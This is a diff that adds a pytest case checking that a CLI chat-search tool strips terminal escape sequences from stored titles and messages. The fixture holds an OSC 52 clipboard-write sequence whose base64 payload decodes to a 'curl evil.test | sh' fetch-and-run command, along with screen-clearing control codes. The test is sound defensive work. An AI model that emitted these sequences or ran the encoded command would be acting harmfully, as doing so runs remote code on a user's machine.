@@ -226,3 +226,21 @@ def test_named_styles_are_made_taught_listed_reset_and_removed(
     assert run_json(capsys, "style", "names") == {"names": []}
     with Store.open(DataPaths(attune_home)) as store:
         assert store.current_style("starter") == "o1"
+
+
+OSC_52 = "\x1b]52;c;Y3VybCBldmlsLnRlc3QgfCBzaA==\x07"  # puts a command into the clipboard
+
+
+def test_nothing_from_a_chat_steers_the_terminal(
+    attune_home: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    evil = f"dragon {OSC_52}\x1b[2J\x9b31m\r temple"
+    with Store.open(DataPaths(attune_home)) as store:
+        conversation = store.create_conversation(title=evil)
+        store.add_message(conversation.id, None, "user", evil)
+    for arguments in (["search", "dragon"], ["search", "dragon", "--json"], ["search", evil]):
+        code, out, err = run(capsys, *arguments)
+        assert code == 0
+        assert not [c for c in out + err if c != "\n" and (ord(c) < 32 or 127 <= ord(c) < 160)]
+    assert evil in run_json(capsys, "search", "dragon")["hits"][0]["title"]
+    assert "\x1b" not in fails(capsys, "rate", f"x{OSC_52}", "up")
